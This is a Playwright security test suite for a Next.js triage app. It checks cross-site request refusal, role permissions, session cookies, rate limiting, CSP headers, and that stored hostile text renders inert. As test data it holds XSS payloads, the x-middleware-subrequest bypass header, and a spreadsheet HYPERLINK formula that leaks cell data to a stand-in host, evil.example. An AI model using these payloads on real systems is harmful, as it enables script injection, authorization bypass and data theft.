// The security suite in the browser, against the production build: what needs a real session cookie
// (cross-site requests, server actions, sign-out, demotion), the headers, and inert rendering.
// The role × route matrix with API tokens runs in vitest (test/security/route-matrix.test.ts); both
// walk the API's one registry: vitest imports it, this spec reads the OpenAPI document the app
// serves from it (route modules load only inside Next), so a new route is walked here without an
// edit. How to call each validly is test/security/endpoints.ts.
import { expect, test, type APIRequestContext, type BrowserContext } from '@playwright/test';
import { ROLES, scopeFor, SYSTEM, type Role } from '@/lib/auth';
import { createUser, updateUser } from '@/lib/admin/users';
import { append, SYSTEM_ACTOR } from '@/lib/audit';
import { closeDb, db } from '@/lib/db';
import { recordDeadLetters } from '@/lib/intake/record-dead-letters';
import { env } from '@/lib/env';
import { DEMO_PASSWORD } from '../../prisma/seed';
import {
  ACTIONS,
  EXEMPT_ACTIONS,
  actionKey,
  actionLabel,
  isMutating,
  routeEntries,
  routeKey,
  urlPath,
  type CallSpec,
  type Operation,
  type RouteEntry,
} from '../security/endpoints';
import { EXPECTED_PERMISSIONS } from '../security/expected-permissions';
import { ACTING, loadFixtures, unique, type Fixtures } from '../security/fixtures';
import { builtActions, callAction } from '../security/server-actions';
import { as, signInNewUser, signInThroughForm } from './helpers';

/** Every operation of the served OpenAPI document that names its permission (x-permission): the registry's. */
async function servedOperations(): Promise<Operation[]> {
  // Tests are declared when this file loads, after the app is up (Playwright starts its webServer first).
  const url = `http://127.0.0.1:${process.env.E2E_PORT ?? 3100}/api/v1/openapi.json`;
  const res = await fetch(url).catch((e: Error) => {
    throw new Error(`the security spec walks the routes of the served ${url}, and the app did not answer: ${e.message}`);
  });
  if (!res.ok) throw new Error(`${url}: ${res.status}`);
  const doc = (await res.json()) as { paths: Record<string, Record<string, { 'x-permission'?: string }>> };
  return Object.entries(doc.paths).flatMap(([path, item]) =>
    Object.entries(item)
      .filter(([, op]) => op['x-permission'] !== undefined)
      .map(([method, op]) => ({
        method: method.toUpperCase() as Operation['method'],
        path: path.replace(/\{(\w+)\}/g, ':$1'),
        permission: op['x-permission'] as Operation['permission'],
      })),
  );
}

const SERVED = await servedOperations();
const ROUTES = routeEntries(SERVED);
const MUTATING = ROUTES.filter(isMutating);
const BYPASS = { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' };
let fx: Fixtures;

test.beforeAll(async () => {
  fx = await loadFixtures();
});
test.afterAll(closeDb);

// Events written by this user: the workers running beside the app write their own events meanwhile.
const auditCount = (email: string) => db().auditEvent.count({ where: { actorEmail: email } });

function allowed(role: Role, permission: string): boolean {
  return permission === 'authenticated' || scopeFor(role, permission as never) !== undefined;
}

/** A route called as its entry says (its path and JSON body), with `headers`. */
async function send(request: APIRequestContext, e: RouteEntry, spec: CallSpec, headers: Record<string, string>) {
  return request.fetch(urlPath(e, spec), { method: e.method, headers, data: JSON.stringify(spec.body ?? {}), maxRedirects: 0 });
}

test.describe('the served document', () => {
  // An empty or partial document would walk nothing here and pass: the walked operations must be
  // exactly the suite's own table of route permissions (test/security/expected-permissions.ts).
  test('names the permission of exactly the operations of the expected-permission table', () => {
    expect(Object.fromEntries(SERVED.map((o) => [routeKey(o), o.permission]))).toEqual(EXPECTED_PERMISSIONS);
  });
});

test.describe('ingest routes', () => {
  const ingest = SERVED.filter((o) => o.permission === 'ingest-token');
  test.use(as(ACTING.admin));

  test("take an ingest token only: an admin's session or personal token is refused, nothing stored", async ({ request, playwright, baseURL }) => {
    expect(ingest.length, 'ingest operations in the served document').toBeGreaterThan(0);
    const admin = fx.users[ACTING.admin]!;
    const source = fx.sources.orders;
    const stored = () => db().deadLetter.count({ where: { sourceId: source.id } });
    const bare = await playwright.request.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
    for (const o of ingest) {
      const url = o.path.replace(':source', source.name);
      const data = JSON.stringify({ deadLetters: [{ messageId: unique('msg'), payload: '{"order":1}', reason: 'Rejected' }] });
      const before = await stored();
      const json = { 'content-type': 'application/json' };
      const byCookie = await request.fetch(url, { method: o.method, headers: { ...json, origin: baseURL! }, data, maxRedirects: 0 });
      expect([401, 403], `${routeKey(o)} with a session cookie`).toContain(byCookie.status());
      const byToken = await bare.fetch(url, { method: o.method, headers: { ...json, authorization: `Bearer ${admin.token}` }, data, maxRedirects: 0 });
      expect([401, 403], `${routeKey(o)} with a personal API token`).toContain(byToken.status());
      expect(await stored()).toBe(before);
    }
    await bare.dispose();
  });
});

test.describe('cross-site requests carrying the session cookie', () => {
  test.use(as(ACTING.admin));

  for (const e of MUTATING) {
    test(`${routeKey(e)} is refused from Origin evil, null and none; the same call from the app goes through`, async ({ request, baseURL }) => {
      const admin = fx.users[ACTING.admin]!;
      for (const origin of ['http://evil.example', 'null', null]) {
        const spec = await e.call(fx, admin);
        const before = await auditCount(admin.email);
        // text/plain: the content type a cross-site form or fetch can send without a preflight.
        const res = await send(request, e, spec, { 'content-type': 'text/plain', ...(origin ? { origin } : {}) });
        expect(res.status(), `Origin ${origin ?? '(none)'}`).toBe(403);
        expect(await auditCount(admin.email)).toBe(before);
      }
      // The same call from the app's own origin passes the guard (it may still meet a domain rule,
      // e.g. a redrive the worker already finished): the refusals above were about the origin.
      const spec = await e.call(fx, admin);
      const ok = await send(request, e, spec, { 'content-type': 'application/json', origin: baseURL! });
      expect([401, 403]).not.toContain(ok.status());
    });
  }

  test('a bearer token without a cookie is not affected by the Origin', async ({ playwright, baseURL }) => {
    const admin = fx.users[ACTING.admin]!;
    const api = await playwright.request.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
    for (const e of MUTATING) {
      const spec = await e.call(fx, admin);
      const res = await send(api, e, spec, { 'content-type': 'application/json', origin: 'http://evil.example', authorization: `Bearer ${admin.token}` });
      expect([401, 403], routeKey(e)).not.toContain(res.status());
    }
    await api.dispose();
  });
});

test.describe('server actions', () => {
  const built = () => new Map(builtActions().map((a) => [actionKey(a), a]));

  test('every action in the build is registered or exempt', () => {
    const known = new Set([...ACTIONS.map(actionKey), ...Object.keys(EXEMPT_ACTIONS)]);
    expect([...built().keys()].filter((k) => !known.has(k))).toEqual([]);
  });

  for (const a of ACTIONS) {
    for (const role of ROLES) {
      const verdict = allowed(role, a.permission) ? 'allowed' : 'refused';
      test(`${role} ${actionLabel(a)}: ${verdict}`, async ({ browser, baseURL }) => {
        const action = built().get(actionKey(a))!;
        const context = await browser.newContext(as(ACTING[role]));
        const fields = await a.form(fx, fx.users[ACTING[role]]!);
        const before = await auditCount(ACTING[role]);
        const out = await callAction(context.request, action, fields, baseURL!);
        const written = (await auditCount(ACTING[role])) - before;
        if (verdict === 'allowed') {
          // A state ({ ok }) or a redirect (no state): never an error.
          expect(out.result?.error, JSON.stringify(out.result)).toBeUndefined();
          expect(out.status).toBeLessThan(400);
          expect(written).toBe(a.audits ?? 1);
        } else {
          expect(out.result).toEqual({ error: 'You do not have permission to do this' });
          expect(written).toBe(0);
        }
        await context.close();
      });
    }

    test(`${actionLabel(a)}: refused from Origin evil, null and none`, async ({ browser }) => {
      const action = built().get(actionKey(a))!;
      const context = await browser.newContext(as(ACTING.admin));
      for (const origin of ['http://evil.example', 'null', null]) {
        const fields = await a.form(fx, fx.users[ACTING.admin]!);
        const before = await auditCount(ACTING.admin);
        const out = await callAction(context.request, action, fields, origin);
        // Next aborts a foreign Origin itself (500, no result); our guard refuses a missing one.
        if (origin) expect(out).toEqual({ status: 500, result: undefined });
        else expect(out.result).toMatchObject({ error: expect.stringMatching(/^Cross-site request refused/) });
        expect(await auditCount(ACTING.admin), `Origin ${origin ?? '(none)'}`).toBe(before);
      }
      await context.close();
    });
  }
});

test.describe('the x-middleware-subrequest bypass', () => {
  test.use(as(ACTING.support));

  test('changes nothing for route handlers, pages or anonymous callers', async ({ request, page, baseURL, playwright }) => {
    const support = fx.users[ACTING.support]!;
    for (const e of MUTATING.filter((r) => !allowed('support', r.permission))) {
      const spec = await e.call(fx, support);
      const res = await send(request, e, spec, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS });
      expect(res.status(), routeKey(e)).toBe(403);
    }
    await page.setExtraHTTPHeaders(BYPASS);
    await page.goto('/admin');
    await expect(page).toHaveURL(/\/forbidden$/);
    const anonymous = await playwright.request.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
    for (const e of MUTATING) {
      const spec = await e.call(fx, support);
      const res = await send(anonymous, e, spec, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS });
      expect(res.status(), routeKey(e)).toBe(401);
    }
    await anonymous.dispose();
  });
});

test.describe('sessions', () => {
  test('cookies are HttpOnly and SameSite; a cookie replayed after sign-out is refused', async ({ browser, baseURL }) => {
    const { context, page } = await signInThroughForm(browser, ACTING.admin, DEMO_PASSWORD);
    await expect(page).toHaveURL(/\/admin$/);
    const cookies = await context.cookies();
    const session = cookies.find((c) => c.name.endsWith('authjs.session-token'));
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
    for (const c of cookies.filter((c) => c.name.includes('authjs'))) {
      expect(c.httpOnly, c.name).toBe(true);
      expect(['Lax', 'Strict'], c.name).toContain(c.sameSite);
    }
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page).toHaveURL(/\/sign-in/);
    const replay = await browser.newContext();
    await replay.addCookies(cookies);
    const res = await replay.request.post('/api/v1/users', {
      headers: { origin: baseURL! },
      data: { email: `${unique('replay')}@triage.local`, role: 'admin', password: 'replayed-password' },
    });
    expect(res.status()).toBe(401);
    const p = await replay.newPage();
    await p.goto('/admin');
    await expect(p).toHaveURL(/\/sign-in/);
    await replay.close();
    await context.close();
  });

  test('a demotion applies on the next request; disabling a user ends the session', async ({ browser }) => {
    const { user, context, page } = await signInNewUser(browser, 'demote', 'admin');
    await expect(page).toHaveURL(/\/admin$/);
    expect((await context.request.get('/api/v1/users')).status()).toBe(200);

    await updateUser(SYSTEM, user.id, { role: 'support', team: 'commerce' });
    expect((await context.request.get('/api/v1/users')).status()).toBe(403);
    await page.goto('/admin');
    await expect(page).toHaveURL(/\/forbidden$/);

    await updateUser(SYSTEM, user.id, { disabled: true });
    expect((await context.request.get('/api/v1/sources')).status()).toBe(401);
    await page.goto('/inbox');
    await expect(page).toHaveURL(/\/sign-in/);
    await context.close();
  });

  test('sign-in is rate-limited per e-mail and per client address', async ({ browser }) => {
    const max = env().SIGN_IN_MAX_ATTEMPTS;
    const password = 'rate-limit-password';
    const victim = `${unique('victim')}@triage.local`;
    const other = `${unique('other')}@triage.local`;
    await createUser(SYSTEM, { email: victim, role: 'support', team: 'commerce', password });
    await createUser(SYSTEM, { email: other, role: 'support', team: 'commerce', password });
    const wrong = 'Wrong e-mail or password.';
    const tooMany = 'Too many sign-in attempts. Wait a few minutes and try again.';
    const contexts: BrowserContext[] = [];
    /** A client at `ip` (the X-Forwarded-For the app trusts); `attempt` signs in on its page and answers the form's alert. */
    const clientAt = async (ip: string) => {
      const context = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': ip } });
      contexts.push(context);
      const page = await context.newPage();
      const attempt = async (email: string, pw: string) => {
        await page.goto('/sign-in');
        await page.getByLabel('E-mail').fill(email);
        await page.getByLabel('Password').fill(pw);
        await page.getByRole('button', { name: 'Sign in' }).click();
        return page.locator('form').getByRole('alert');
      };
      return { page, attempt };
    };

    // Per e-mail: failures from one address lock the account out from every address.
    const a = await clientAt('198.51.100.7');
    for (let i = 0; i < max; i++) await expect(await a.attempt(victim, 'wrong-password')).toHaveText(wrong);
    await expect(await a.attempt(victim, password)).toHaveText(tooMany);
    const b = await clientAt('203.0.113.9');
    await expect(await b.attempt(victim, password)).toHaveText(tooMany);

    // Per address: failures on many e-mails from one address stop that address, not the others.
    const c = await clientAt('192.0.2.77');
    for (let i = 0; i < max; i++) await expect(await c.attempt(`${unique('nobody')}@triage.local`, 'wrong-password')).toHaveText(wrong);
    await expect(await c.attempt(other, password)).toHaveText(tooMany);
    const d = await clientAt('203.0.113.50');
    await d.attempt(other, password);
    await expect(d.page).toHaveURL(/\/inbox$/);
    for (const context of contexts) await context.close();
  });
});

test.describe('headers', () => {
  test('pages carry a nonce CSP without inline scripts, no framing, nosniff; API responses too', async ({ request }) => {
    const page = await request.get('/sign-in');
    const csp = page.headers()['content-security-policy']!;
    const script = csp
      .split(';')
      .map((d) => d.trim())
      .find((d) => d.startsWith('script-src'))!;
    expect(script).toMatch(/'nonce-[A-Za-z0-9+/=]+'/);
    expect(script).not.toContain('unsafe-inline');
    expect(script).not.toContain('unsafe-eval');
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(page.headers()['x-content-type-options']).toBe('nosniff');
    expect(page.headers()['x-frame-options']).toBe('DENY');
    const nonce = /'nonce-([^']+)'/.exec(script)![1]!;
    const html = await page.text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    expect(scripts.length).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    expect((await request.get('/sign-in')).headers()['content-security-policy']).not.toContain(nonce);

    const api = await request.get('/api/health');
    expect(api.headers()['x-content-type-options']).toBe('nosniff');
    expect(api.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  });

  test('the app works under the CSP: sign in, navigate, submit a form, no violation', async ({ browser }) => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.addInitScript(() => {
      (window as unknown as { __violations: string[] }).__violations = [];
      document.addEventListener('securitypolicyviolation', (ev) =>
        (window as unknown as { __violations: string[] }).__violations.push(`${ev.violatedDirective} ${ev.blockedURI}`),
      );
    });
    const console: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) console.push(m.text());
    });
    await page.goto('/sign-in');
    await page.getByLabel('E-mail').fill(ACTING.admin);
    await page.getByLabel('Password').fill(DEMO_PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page).toHaveURL(/\/admin$/);
    const name = unique('csp-team');
    await page.getByRole('textbox', { name: 'Name' }).first().fill(name);
    await page.getByRole('button', { name: 'Create team' }).click();
    await expect(page.getByRole('status').filter({ hasText: `Team ${name} created` })).toBeVisible();
    await page.getByRole('link', { name: 'Audit trail' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Audit trail');
    await page.goto('/forbidden');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Not allowed');
    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
    expect(console).toEqual([]);
    await context.close();
  });
});

test.describe('hostile text renders inert', () => {
  test.use(as(ACTING.auditor));
  const TARGET = unique('hostile');
  const html = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  let eventId = '';

  test.beforeAll(async () => {
    const e = await db().$transaction((tx) =>
      append(tx, {
        actor: SYSTEM_ACTOR,
        action: 'test.hostile',
        targetType: 'hostile',
        targetId: TARGET,
        reason: html,
        result: `${formula}\r\nsecond line`,
        after: { html, formula, crlf: 'a\r\nb' },
      }),
    );
    eventId = e.id.toString();
  });

  test('in the trail, the event page and both exports', async ({ page }) => {
    page.on('dialog', (d) => {
      throw new Error(`a dialog opened: ${d.message()}`);
    });
    await page.goto(`/audit?targetType=hostile&targetId=${TARGET}`);
    const row = page.getByTestId('audit-row');
    await expect(row).toHaveCount(1);
    await expect(row.locator('td').last()).toHaveText(html);
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    await page.goto(`/audit/${eventId}`);
    await expect(page.getByTestId('audit-after')).toContainText('<script>window.__xss=2</script>');
    await expect(page.locator('main script')).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();

    const csv = await (await page.request.get(`/api/v1/audit/export?format=csv&targetType=hostile&targetId=${TARGET}`)).text();
    const lines = csv.split('\r\n');
    expect(lines[0]!.startsWith('"id",')).toBe(true);
    // One record, whose result cell keeps its line break inside the quotes and cannot run as a formula.
    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}\r\nsecond line"`);
    expect(csv).toContain(`"${html.replaceAll('"', '""')}"`);
    const ndjson = await (await page.request.get(`/api/v1/audit/export?format=ndjson&targetType=hostile&targetId=${TARGET}`)).text();
    expect(ndjson.trimEnd().split('\n')).toHaveLength(1);
    expect(JSON.parse(ndjson)).toMatchObject({ reason: html, result: `${formula}\r\nsecond line` });
  });
});

test.describe('a hostile dead letter renders inert', () => {
  test.use(as(ACTING.support));
  const script = '<script>window.__xss=3</script><img src=x onerror="window.__xss=4">';
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  let id = '';
  let marker = '';

  test.beforeAll(async () => {
    marker = unique('hostile-dl');
    const [r] = await recordDeadLetters({ id: fx.sources.orders.id, retentionSeconds: 86400 }, [
      {
        messageId: marker,
        payload: Buffer.from(JSON.stringify({ note: script, formula })),
        contentType: 'application/json',
        headers: { 'x-note': script },
        reason: 'Rejected',
        errorType: 'HostileError',
        errorMessage: `${formula}\r\n${script}`,
        errorStack: `HostileError: ${script}\n    at handler (src/h.ts:1:1)`,
      },
    ]);
    id = r!.id;
  });

  test('in the payload viewer, the error and headers, and the export', async ({ page }) => {
    page.on('dialog', (d) => {
      throw new Error(`a dialog opened: ${d.message()}`);
    });
    await page.goto(`/dead-letters/${id}`);
    await expect(page.getByRole('heading', { level: 1 })).toContainText(marker);
    await expect(page.locator('main')).toContainText('<script>window.__xss=3</script>');
    await expect(page.locator('main img')).toHaveCount(0);
    await expect(page.locator('main script')).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();

    const csv = await (await page.request.get('/api/v1/dead-letters/export?format=csv&source=orders')).text();
    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}\r\n`);
    expect(csv).not.toMatch(/(^|,)"=HYPERLINK/m);
  });
});
